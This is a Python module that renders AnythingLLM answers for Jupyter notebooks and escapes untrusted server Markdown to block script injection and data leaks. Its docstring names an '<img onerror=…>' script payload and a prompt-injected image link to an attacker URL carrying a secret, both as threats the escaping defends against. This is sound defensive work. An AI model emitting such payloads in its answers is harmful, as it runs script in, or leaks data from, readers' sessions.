"""Markdown (and a plain-text twin) for a partial or final :class:`~allm_jupyter.reply.Reply`.

Pure, with no IPython and no I/O, so the live view can call it ~20 times a second on 100+ KB answers:
every pass is linear and every pattern is compiled once.

Server text is untrusted. RAG answers quote arbitrary documents, and JupyterLab renders the Markdown
outputs of a running session *without* sanitizing them, so an ``<img onerror=…>`` in an answer would
run as script. :func:`escape_markdown_html` therefore never passes server Markdown through as it is;
it re-emits it in a canonical form that every renderer must read the same way:

* what must not act as syntax becomes a character reference (``&lt;``, ``&#91;``…), never a
  backslash escape: a reference is plain text in every context of every renderer, while marked
  (JupyterLab's renderer) un-escapes ``\\[`` inside link text;
* outside code, so, ``<``, ``>`` and ``&`` are references: no tag, comment or autolink survives;
* so are ``[`` and ``]``, except around the links we re-emit ourselves, whose target is ``http(s):``
  or ``mailto:`` (images: ``http(s):``) and percent-encoded; no other link, image or reference
  definition can form, whatever the renderer's bracket rules;
* so are stray backticks, so the renderer pairs code spans exactly as we did (within one line), and
  runs of three tildes, so no fence opens where we did not see one (after a list marker, say);
* a code span stays verbatim only when its text would be harmless even if a renderer did not read it
  as code (no ``<``, ``[`` or ``]``) and cannot be cut (no ``|``: GFM splits table cells on it even
  inside code); any other span becomes a ``<code>`` element whose punctuation is all references,
  which looks the same, in a table too;
* a fenced code block is re-emitted with a fence longer than any backtick run inside it, every line
  at the opener's indent, and always closed, so no renderer can end it early and read the rest of it
  as Markdown;
* an image becomes a link to it unless images are asked for (``images=True``): an image loads the
  moment it renders, so a prompt-injected ``![](https://attacker/?q=secret)`` would send data away
  without a click.

Everything else (emphasis, lists, tables, headings, block quotes, math) renders as Markdown.

Literal text (names, titles, snippets, errors) is different: it must read exactly as written, so
:func:`literal_markdown` turns all its punctuation into references and, where it holds ``$`` or
``\\``, wraps it in a span that MathJax skips. The references alone do not do: JupyterLab hides
``$…$`` from the Markdown parser, then MathJax typesets whatever ``$`` pairs the rendered page holds,
references included.
"""

from __future__ import annotations

import html
import re
import string
from bisect import bisect_left
from collections.abc import Sequence
from dataclasses import dataclass, field
from functools import lru_cache
from urllib.parse import quote

from ._terminal import terminal_text
from .models import Metrics, Source
from .reply import Reply, split_reasoning

SNIPPET_CHARS = 300
"""Sources show about this many characters of their chunk, cut on a word boundary."""

_REFUSAL = "No relevant information in the workspace"

_NEWLINE = re.compile(r"\r\n?|\n")
_FENCE_OPEN = re.compile(r"( {0,3})(`{3,}|~{3,})(.*)")
_FENCE_CLOSE = re.compile(r" {0,3}(`{3,}|~{3,})[ \t]*")
_FENCE_LANG = re.compile(r"[\w+#.-]*")
_TICKS = re.compile(r"`+")
# Block quote markers, a list marker and a task box at the start of a line: Markdown we keep as is.
_LINE_PREFIX = re.compile(
    r"(?:[ \t]*>)*[ \t]*(?:(?:[-*+]|\d{1,9}[.)])[ \t]+(?:\[[ xX]\](?=[ \t]))?)?"
)
_SPECIAL = "\\`[]<>&~"
"""A line without these is safe as it is (a lone ``~`` or one in the line prefix is too, but
takes the slow path, which returns it unchanged)."""
_INLINE = re.compile(r"\\[!-/:-@\[-`{-~]|`+|~{3,}|!?\[|[\]<>&]")
_CODE_UNSAFE = re.compile(r"[<\[\]|]")
_PUNCTUATION = re.compile(r"[!-/:-@\[-`{-~]")
_BACKSLASH_ESCAPE = re.compile(r"\\([!-/:-@\[-`{-~])")
_LITERAL_SPECIAL = re.compile(r"[\\`*_\[\]~|$<>&\"']")
_DESTINATION = re.compile(
    r"""\([ \t]*
    (?:<((?:[^<>\\`]|\\.)*)>|((?:[^\s()\\`]|\\.|\((?:[^\s()\\`]|\\.)*\))*))
    (?:[ \t]+(?:"(?:[^"\\`]|\\.)*"|'(?:[^'\\`]|\\.)*'|\((?:[^()\\`]|\\.)*\)))?
    [ \t]*\)""",
    re.VERBOSE,
)
_AUTOLINK = re.compile(
    r"<([A-Za-z][A-Za-z0-9+.-]{1,31}:[^\s<>`]*)>"
    r"|<([\w.!#$%&'*+/=?^{|}~-]+@[A-Za-z0-9-]+(?:\.[A-Za-z0-9-]+)*)>",
    re.ASCII,
)
_LINK_SCHEME = re.compile(r"(?:https?|mailto):", re.IGNORECASE)
_IMAGE_SCHEME = re.compile(r"https?:", re.IGNORECASE)
_URL_SAFE = "/:?#@!$&*+,;=%~"
# ASCII punctuation as character references: plain text to every renderer in every context.
# Backslash escapes are not: marked, JupyterLab's renderer, un-escapes "\[" inside link text.
_REFERENCES = {char: f"&#{ord(char)};" for char in string.punctuation}
_REFERENCES.update({"<": "&lt;", ">": "&gt;", "&": "&amp;"})
_TEX_DELIMITER = re.compile(r"[$\\]")
# MathJax's class for "no math in here": 3.x reads mathjax_ignore, 2.x tex2jax_ignore.
_NO_MATH = '<span class="tex2jax_ignore mathjax_ignore">{}</span>'


def escape_markdown_html(text: str, *, images: bool = False) -> str:
    """Make untrusted server Markdown safe to show: no raw HTML, only http(s)/mailto links, and
    images only with ``images=True`` (else links to them).

    Normal Markdown still renders; code keeps its exact text. See the module docstring for how.
    """
    lines = _NEWLINE.split(text) if "\r" in text else text.split("\n")  # str.split is 20x faster
    out: list[str] = []
    fence: Fence | None = None
    for number, line in enumerate(lines, 1):
        if fence is None:
            fence = Fence.opened_by(line)
            if fence is None:
                # Streaming re-renders the same lines many times, so complete lines are memoized;
                # the last line may still be growing, and caching each prefix would evict the rest.
                escape = _escape_line if number < len(lines) else _escape_line.__wrapped__
                out.append(escape(line, images))
        elif fence.is_closed_by(line):
            out.extend(fence.lines())
            fence = None
        else:
            fence.add(line)
    if fence is not None:  # an unclosed fence runs to the end: it is all code
        if fence.body and not fence.body[-1]:
            fence.body.pop()  # the newline the text ended with, not a blank line of code
        out.extend(fence.lines())
    return "\n".join(out)


def escape_table_cell(text: str) -> str:
    """Untrusted Markdown as one table cell: one line, escaped, no ``|`` that splits it.

    Only inline escaping applies: a cell cannot hold a block, so a fence opener in it (a history
    entry cut after its opening backticks) must not become one. For text that must read exactly as
    written (a name), use :func:`literal_markdown`.
    """
    return _escape_line(" ".join(text.split()), False).replace("|", "&#124;")


@dataclass
class Fence:
    """A fenced code block, re-emitted with a fence that nothing inside it can close (``segments``
    cuts none: it asks the escaper's own reading of where one opens)."""

    indent: str
    char: str
    length: int
    lang: str
    body: list[str] = field(default_factory=list)

    @classmethod
    def opened_by(cls, line: str) -> Fence | None:
        match = _FENCE_OPEN.fullmatch(line)
        if match is None:
            return None
        indent, fence, info = match.groups()
        if fence[0] == "`" and "`" in info:  # not a fence in CommonMark: inline code
            return None
        lang = _FENCE_LANG.match(info.strip())
        return cls(indent, fence[0], len(fence), lang[0] if lang else "")

    def is_closed_by(self, line: str) -> bool:
        match = _FENCE_CLOSE.fullmatch(line)
        return match is not None and match[1][0] == self.char and len(match[1]) >= self.length

    def add(self, line: str) -> None:
        spaces = len(line) - len(line.lstrip(" "))
        self.body.append(line[min(spaces, len(self.indent)) :])

    def lines(self) -> list[str]:
        # Every line keeps the opener's indent, so a fence inside a list item stays inside it.
        longest = max((len(run) for run in _TICKS.findall("\n".join(self.body))), default=0)
        ticks = "`" * max(3, longest + 1)
        return [
            self.indent + ticks + self.lang,
            *(self.indent + line for line in self.body),
            self.indent + ticks,
        ]


@lru_cache(maxsize=1 << 14)
def _escape_line(line: str, images: bool) -> str:
    if not any(char in line for char in _SPECIAL):  # ``in`` scans a 5 MB line 30x faster than re
        return line
    start = _LINE_PREFIX.match(line).end()  # type: ignore[union-attr]  # matches the empty string
    return line[:start] + _Line(line, start, images).render()


class _Line:
    """One line outside code fences. Code spans and links never cross lines, so they cannot cross
    a block boundary the renderer sees and we do not."""

    def __init__(self, line: str, start: int, images: bool) -> None:
        self.line = line
        self.start = start
        self.images = images
        self.tokens: list[tuple[int, int]] = []
        self.spans: dict[int, int] = {}
        """Token index of a whole code span -> the length of its backtick fences."""
        unclosed: set[int] = set()  # run lengths with no closing run further on
        span_end = 0
        for match in _INLINE.finditer(line, start):
            begin, end = match.span()
            if begin < span_end:  # code spans come first: a backslash in one is text, not an escape
                continue
            size = end - begin
            if line[begin] == "`" and size not in unclosed:
                close = _backtick_run(size).search(line, end)
                if close is None:
                    unclosed.add(size)
                else:
                    self.spans[len(self.tokens)] = size
                    end = span_end = close.end()
            self.tokens.append((begin, end))
        self.starts = [begin for begin, _ in self.tokens]
        self.brackets = self._pair_brackets()

    def _pair_brackets(self) -> dict[int, int]:
        """Opening ``[``/``![`` -> its matching ``]`` (code spans are single tokens)."""
        pairs: dict[int, int] = {}
        stack: list[int] = []
        for index, (begin, _) in enumerate(self.tokens):
            if self.line[begin] in "![":
                stack.append(index)
            elif self.line[begin] == "]" and stack:
                pairs[stack.pop()] = index
        return pairs

    def render(self) -> str:
        return self._render(0, len(self.tokens), self.start, len(self.line), in_link=False)

    def _render(self, first: int, last: int, start: int, stop: int, *, in_link: bool) -> str:
        line, tokens = self.line, self.tokens
        out: list[str] = []
        pos, index = start, first
        while index < last:
            begin, end = tokens[index]
            out.append(line[pos:begin])
            pos = end
            char = line[begin]
            if char == "\\":
                out.append(_REFERENCES[line[end - 1]])
            elif (size := self.spans.get(index)) is not None:
                out.append(_code_span(line[begin + size : end - size], line[begin:end]))
            elif char in "![<" and (link := self._link_at(index, in_link=in_link)):
                out.append(link[0])
                pos, index = link[1], bisect_left(self.starts, link[1])
                continue
            else:  # stray backticks (they could pair), tildes (they could open a fence), [ ] < > &
                out.append("".join([_REFERENCES[c] for c in line[begin:end]]))
            index += 1
        out.append(line[pos:stop])
        return "".join(out)

    def _link_at(self, index: int, *, in_link: bool) -> tuple[str, int] | None:
        """A link, image or autolink starting at token ``index``, re-emitted, and where it ends."""
        begin = self.tokens[index][0]
        if self.line[begin] != "<":
            return self._link(index, in_link=in_link)
        return None if in_link else self._autolink(begin)  # links cannot nest

    def _link(self, opener: int, *, in_link: bool) -> tuple[str, int] | None:
        """A link or image starting at ``opener``, re-emitted, and where it ends; None if none."""
        close = self.brackets.get(opener)
        image = self.line[self.tokens[opener][0]] == "!"
        if close is None or (in_link and not image):
            return None
        target = _DESTINATION.match(self.line, self.tokens[close][1])
        if target is None:
            return None
        raw = target[1] if target[1] is not None else target[2]
        url = _safe_url(_unescape(raw), image=image)
        inner = (self.tokens[opener][1], self.tokens[close][0])
        if image:
            alt = _unescape(self.line[inner[0] : inner[1]])
            if url and self.images:
                return f"![{_references(alt)}]({url})", target.end()
            if url and not in_link:  # a link to the image: it loads only if the reader clicks
                return f"[🖼 {literal_markdown(alt or 'image')}]({url})", target.end()
            return literal_markdown(alt), target.end()
        text = self._render(opener + 1, close, *inner, in_link=True)
        return (f"[{text}]({url})" if url else text), target.end()

    def _autolink(self, begin: int) -> tuple[str, int] | None:
        match = _AUTOLINK.match(self.line, begin)
        if match is None:
            return None
        shown = match[1] or match[2]
        url = _safe_url(match[1] or f"mailto:{match[2]}", image=False)
        return (f"[{literal_markdown(shown)}]({url})", match.end()) if url else None


@lru_cache
def _backtick_run(size: int) -> re.Pattern[str]:
    """A run of exactly ``size`` backticks: what closes a code span opened by one."""
    return re.compile(f"(?<!`)`{{{size}}}(?!`)")


def _code_span(body: str, raw: str) -> str:
    """A code span: verbatim when harmless, else a ``<code>`` element of character references."""
    if not _CODE_UNSAFE.search(body):
        return raw
    if body.startswith(" ") and body.endswith(" ") and body.strip(" "):
        body = body[1:-1]  # CommonMark strips one space on each side
    return "<code>" + _PUNCTUATION.sub(_reference, body) + "</code>"


def _reference(match: re.Match[str]) -> str:
    return _REFERENCES[match[0]]


def _unescape(text: str) -> str:
    """What a renderer reads from a link target or text: backslash escapes and entities resolved."""
    return html.unescape(_BACKSLASH_ESCAPE.sub(r"\1", text))


def _safe_url(url: str, *, image: bool) -> str | None:
    """``url`` as a Markdown link target if its scheme is allowed, else None.

    Percent-encoding leaves no space, bracket, parenthesis, quote or backslash for a renderer to
    read differently from us, and ``&`` is an entity, so the target is one opaque word.
    """
    if not (_IMAGE_SCHEME if image else _LINK_SCHEME).match(url):
        return None
    return quote(url, safe=_URL_SAFE, errors="replace").replace("&", "&amp;")


def _references(text: str) -> str:
    """``text`` on one line with its Markdown punctuation as references: for an attribute (alt).

    Quotes are references too: marked puts image alt text into the attribute without escaping them.
    """
    return _LITERAL_SPECIAL.sub(_reference, " ".join(text.split()))


def literal_markdown(text: str) -> str:
    """One line of Markdown that reads exactly as ``text`` (whitespace collapsed) in every front
    end: never markup, never math (see the module docstring)."""
    shown = _references(text)
    return _NO_MATH.format(shown) if _TEX_DELIMITER.search(text) else shown


def _shorten(text: str, limit: int = SNIPPET_CHARS) -> str:
    """``text`` on one line, cut on a word boundary to about ``limit`` characters."""
    flat = " ".join(text.split())
    if len(flat) <= limit:
        return flat
    cut = flat[: limit + 1]
    space = cut.rfind(" ")
    return (cut[:space] if space > limit // 2 else flat[:limit]).rstrip() + "…"


def _score(source: Source) -> str | None:
    return f"{source.score:.0%}" if source.score is not None else None


def _rate(tokens_per_second: float) -> str:
    return f"{tokens_per_second:.0f}" if tokens_per_second >= 10 else f"{tokens_per_second:.1f}"


def counted(number: int, noun: str, plural: str | None = None) -> str:
    """``1 match``, ``2 matches``: a count that agrees with its noun."""
    return f"{number:,} {noun if number == 1 else plural or noun + 's'}"


def _footer_parts(reply: Reply) -> list[str]:
    """Where the answer came from (the workspace, its thread) and what the server reported of
    it (model, total tokens, speed, duration): after a picker change or ``thread=new`` the
    answer itself says where it was asked."""
    parts = [f"workspace {reply.workspace}"] if reply.workspace else []
    if reply.thread:
        parts.append(f"thread {reply.thread}")
    metrics = reply.metrics or Metrics()
    if metrics.model:
        parts.append(metrics.model)
    if metrics.total_tokens is not None:
        parts.append(counted(metrics.total_tokens, "token"))
    if metrics.output_tps is not None:
        parts.append(f"{_rate(metrics.output_tps)} tok/s")
    if metrics.duration is not None:
        parts.append(f"{metrics.duration:.2f} s")
    if metrics.total_cost is not None:
        parts.append(usd(metrics.total_cost))
    return parts


def usd(amount: float) -> str:
    """A cost in dollars: answers cost fractions of a cent, so small amounts keep 4 digits."""
    return f"${amount:.4f}" if abs(amount) < 1 else f"${amount:,.2f}"


def _ending(reply: Reply, final: bool, error_below: bool = False) -> tuple[str, str] | None:
    """Why the answer may be partial, as ``(label, detail)``; None when it is whole (so far).

    ``error_below``: the cell's own error line says the sentence, so it is not said twice here.
    """
    if reply.error and error_below:
        if reply.text:
            return "⚠ Partial answer", "it stopped at the error below"
        return "⚠ No answer", "see the error below"
    if reply.error:
        return "⚠ Error", reply.error
    if reply.interrupted:
        return "■ Stopped by the user", "partial answer" if reply.text else "no answer arrived"
    if final and not reply.complete:
        return "⚠ Stopped", "the answer ended before the server finished it"
    return None


def _file_names(reply: Reply) -> list[str]:
    return [file.filename for file in reply.files if file.filename]


def status_line(workspace: str | None, elapsed: float, thoughts: Sequence[str] = ()) -> str:
    """What shows before the first token: the agent's latest thought, or who is being asked."""
    seconds = f"{max(0, int(elapsed))} s"
    thought = next((t for t in reversed(thoughts) if t.strip()), None)
    if thought is not None:
        return f"⏳ {literal_markdown(thought)} · {seconds}"
    asked = f"*{literal_markdown(workspace)}*" if workspace else "AnythingLLM"
    return f"⏳ Asking {asked}… {seconds}"


def render_markdown(
    reply: Reply,
    *,
    status: str | None = None,
    final: bool = False,
    error_below: bool = False,
    show_images: bool = False,
    answer_from: int = 0,
) -> str:
    """The notebook output: reasoning (collapsed), answer, markers, sources and footer.

    Images in the answer are links to them unless ``show_images``; ``error_below``: see
    :func:`_ending`. ``answer_from``: the answer's first characters (and the reasoning) are parts
    of their own (:func:`render_answer_part`); this renders the rest, the live tail.
    """
    reasoning, answer = split_reasoning(reply.text)
    if answer_from:
        reasoning, answer = None, answer[answer_from:]
    ending = _ending(reply, final, error_below)
    parts: list[str] = []
    if reasoning and reasoning.strip():
        parts.append(_details("Reasoning", escape_markdown_html(reasoning, images=show_images)))
    if answer.strip():
        body = escape_markdown_html(answer, images=show_images)
        parts.append(_quote(f"ℹ️ **{_REFUSAL}:**\n\n{body}") if reply.refusal else body)
    elif ending is None and not final:
        waiting = "⏳ Thinking…" if reasoning else status_line(reply.workspace, 0.0, reply.thoughts)
        parts.append(status if status is not None else waiting)
    elif ending is None:
        parts.append("*(no answer)*")
    if names := _file_names(reply):
        parts.append("📎 **Files:** " + ", ".join(map(literal_markdown, names)))
    if ending is not None:
        parts.append(f"**{ending[0]}:** {literal_markdown(ending[1])}")
    if final and reply.sources:
        items = "\n".join(_source_item(n, s) for n, s in enumerate(reply.sources, 1))
        parts.append(_details(f"Sources ({len(reply.sources)})", items))
    if final and (footer := _footer_parts(reply)):
        parts.append("*" + " · ".join(map(literal_markdown, footer)) + "*")
    return "\n\n".join(parts)


def render_answer_part(reply: Reply, start: int, stop: int, *, show_images: bool = False) -> str:
    """The Markdown of the answer's characters ``[start, stop)``, with the reasoning if it is the
    first part; cut where :func:`~allm_jupyter.segments.next_cut` allows, the parts and then
    ``render_markdown(reply, answer_from=stop)`` join to exactly ``render_markdown(reply)``."""
    reasoning, answer = split_reasoning(reply.text)
    body = escape_markdown_html(answer[start:stop], images=show_images)
    if start or not (reasoning and reasoning.strip()):
        return body
    return (
        _details("Reasoning", escape_markdown_html(reasoning, images=show_images)) + "\n\n" + body
    )


def _details(summary: str, body: str) -> str:
    """A collapsed block; the blank lines make JupyterLab parse the Markdown inside it."""
    return f"<details><summary>{summary}</summary>\n\n{body}\n\n</details>"


def _quote(markdown: str) -> str:
    return "\n".join(f"> {line}" if line else ">" for line in markdown.split("\n"))


def _source_item(number: int, source: Source) -> str:
    title = literal_markdown(source.title)
    url = _safe_url(source.link, image=False) if source.link else None
    item = f"{number}. **[{title}]({url})**" if url else f"{number}. **{title}**"
    if score := _score(source):
        item += f" · {score}"
    if snippet := _shorten(source.snippet):
        item += f"<br>{literal_markdown(snippet)}"
    return item


def render_plain(
    reply: Reply,
    *,
    final: bool = False,
    error_below: bool = False,
    with_answer: bool = True,
    answer_from: int = 0,
) -> str:
    """The ``text/plain`` twin for terminals: no HTML, no entities, no terminal control codes.

    ``with_answer=False``: only what follows the answer (a terminal printed it as it came).
    ``answer_from``: as for :func:`render_markdown` (the part before it: :func:`plain_answer_part`).
    """
    answer = split_reasoning(reply.text)[1][answer_from:]
    ending = _ending(reply, final, error_below)
    parts: list[str] = []
    if answer.strip() and with_answer:
        parts.append(answer)
    if reply.refusal:  # after the text, so the plain twin only ever grows at its end
        parts.append(f"ℹ️ {_REFUSAL} (query mode answers only from its documents)")
    if names := _file_names(reply):
        parts.append("Files: " + ", ".join(names))
    if ending is not None:
        parts.append(f"{ending[0]}: {ending[1]}")
    if final and reply.sources:
        items = (_plain_source(n, s) for n, s in enumerate(reply.sources, 1))
        parts.append("Sources:\n" + "\n".join(items))
    if final and (footer := _footer_parts(reply)):
        parts.append(" · ".join(footer))
    return terminal_text("\n\n".join(parts))


def plain_answer_part(reply: Reply, start: int, stop: int) -> str:
    """The ``text/plain`` twin of :func:`render_answer_part`."""
    return terminal_text(split_reasoning(reply.text)[1][start:stop])


def _plain_source(number: int, source: Source) -> str:
    score = _score(source)
    return " ".join(
        part
        for part in (f"{number}.", source.title, f"({score})" if score else "", source.link or "")
        if part
    )


def markdown_table(headers: Sequence[str], rows: Sequence[Sequence[object]]) -> str:
    """A Markdown table whose every cell is server text shown literally (no markup, no math)."""
    lines = ["| " + " | ".join(headers) + " |", "|" + "---|" * len(headers)]
    lines += [
        "| " + " | ".join(literal_markdown("" if v is None else str(v)) for v in row) + " |"
        for row in rows
    ]
    return "\n".join(lines)


def plain_table(headers: Sequence[str], rows: Sequence[Sequence[object]]) -> str:
    """The same table as aligned plain text, for terminals."""
    texts = [
        [terminal_text(" ".join(str(v).split())) if v is not None else "" for v in row]
        for row in rows
    ]
    widths = [max([len(h)] + [len(r[i]) for r in texts]) for i, h in enumerate(headers)]
    fmt = "  ".join(f"{{:<{w}}}" for w in widths)
    return "\n".join(fmt.format(*line).rstrip() for line in [headers, *texts])
